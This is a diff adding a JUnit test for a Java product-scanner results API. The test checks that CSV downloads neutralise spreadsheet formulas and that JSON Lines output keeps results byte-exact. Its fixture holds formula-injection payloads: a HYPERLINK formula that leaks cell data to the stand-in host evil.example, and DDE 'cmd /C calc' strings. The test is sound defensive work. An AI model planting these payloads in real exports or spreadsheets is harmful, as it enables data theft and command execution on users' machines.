@@ -1,6 +1,7 @@
 package io.productscanner.runtime.results;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.node.ObjectNode;
 import io.productscanner.runtime.api.ApiServer;
 import io.productscanner.runtime.config.Settings;
 import io.productscanner.runtime.job.JobRecord;
@@ -26,14 +27,17 @@ import java.net.URI;
 import java.net.http.HttpClient;
 import java.net.http.HttpRequest;
 import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Clock;
 import java.time.Duration;
 import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
@@ -154,6 +158,55 @@ class ResultsApiTest {
     }
 
     @Test
+    void csvDownloadNeutralisesFormulasFromSellersAndCallersWhileJsonlKeepsEveryByte() throws Exception {
+        String sellerName = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"특가, 클릭\")";
+        ProductResult hostile = Json.MAPPER.convertValue(Json.MAPPER.createObjectNode()
+                .put("url", "https://www.musinsa.com/products/1").put("platform", "musinsa").put("product_id", "1")
+                .put("product_set_id", "@SUM(1+1)*cmd|' /C calc'!A0").put("status", "success").put("match", false)
+                .<ObjectNode>set("expected", Json.MAPPER.createObjectNode()
+                        .put("product_name", "+cmd|' /C calc'!A0").put("original_price", -1000)
+                        .put("sale_status", "\t=1+1"))
+                .<ObjectNode>set("fetched", Json.MAPPER.createObjectNode()
+                        .put("product_name", sellerName).put("brand", "-2+3").put("original_price", -1000)
+                        .put("sale_status", "on_sale").put("raw_status", "\r=1"))
+                .set("comparison", Json.MAPPER.createObjectNode().put("product_name", false)
+                        .put("original_price", true)), ProductResult.class);
+        JobRecord job = finishedJob(List.of(hostile));
+        String results = "/api/v2/jobs/" + job.jobId() + "/results";
+
+        HttpResponse<String> csv = get(results + "?format=csv");
+        assertEquals(200, csv.statusCode());
+        List<List<String>> rows = csvRows(csv.body());
+        assertEquals(2, rows.size(), csv.body());
+        Map<String, String> row = new HashMap<>();
+        for (int i = 0; i < rows.get(0).size(); i++) {
+            row.put(rows.get(0).get(i), rows.get(1).get(i));
+        }
+        for (String cell : rows.get(1)) {
+            assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("-\\d+"),
+                    "a cell a spreadsheet runs as a formula: " + cell);
+        }
+        assertEquals("'" + sellerName, row.get("fetched_product_name"), "the seller's text, behind a quote");
+        assertEquals("'@SUM(1+1)*cmd|' /C calc'!A0", row.get("product_set_id"));
+        assertEquals("'+cmd|' /C calc'!A0", row.get("expected_product_name"));
+        assertEquals("'\t=1+1", row.get("expected_sale_status"));
+        assertEquals("'-2+3", row.get("fetched_brand"));
+        assertEquals("'\r=1", row.get("fetched_raw_status"));
+        assertEquals("-1000", row.get("expected_original_price"), "a number stays a number");
+        assertEquals("-1000", row.get("fetched_original_price"));
+
+        byte[] exact = (Json.write(hostile) + "\n").getBytes(StandardCharsets.UTF_8);
+        assertArrayEquals(exact, getBytes(results + "?format=jsonl"),
+                "JSON Lines carry each result untouched");
+        assertTrue(new String(exact, StandardCharsets.UTF_8).contains(
+                "\"product_name\":\"=HYPERLINK(\\\"https://evil.example/"));
+        redis.connections().commands().del(redis.keys().results(job.jobId()));
+        assertArrayEquals(exact, getBytes(results + "?format=jsonl"),
+                "and so does the results file, once Redis has let them go");
+        assertEquals(csv.body(), get(results + "?format=csv").body());
+    }
+
+    @Test
     void anUnknownFormatIsRefusedWithTheErrorEnvelope() throws Exception {
         JobRecord job = finishedJob(ResultsFixtures.products(1));
 
@@ -206,6 +259,48 @@ class ResultsApiTest {
     void aJobWithNoResultsLeftAnywhereIsNotFound() throws Exception {
         JsonNode error = getJson("/api/v2/jobs/" + ResultsFixtures.newJobId() + "/results", 404);
         assertEquals("job_not_found", error.path("error").path("code").asText());
+    }
+
+    /** RFC 4180 records (quoted fields may hold commas, quotes doubled, CR and LF), as a spreadsheet splits them. */
+    private static List<List<String>> csvRows(String text) {
+        List<List<String>> rows = new ArrayList<>();
+        List<String> row = new ArrayList<>();
+        StringBuilder field = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < text.length(); i++) {
+            char c = text.charAt(i);
+            if (quoted) {
+                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
+                    field.append('"');
+                    i++;
+                } else if (c == '"') {
+                    quoted = false;
+                } else {
+                    field.append(c);
+                }
+            } else if (c == '"') {
+                quoted = true;
+            } else if (c == ',') {
+                row.add(field.toString());
+                field.setLength(0);
+            } else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
+                row.add(field.toString());
+                field.setLength(0);
+                rows.add(row);
+                row = new ArrayList<>();
+                i++;
+            } else {
+                field.append(c);
+            }
+        }
+        return rows;
+    }
+
+    private static byte[] getBytes(String path) throws Exception {
+        HttpResponse<byte[]> response = HTTP.send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + api.port()
+                + path)).timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofByteArray());
+        assertEquals(200, response.statusCode());
+        return response.body();
     }
 
     private static List<JsonNode> list(JsonNode array) {
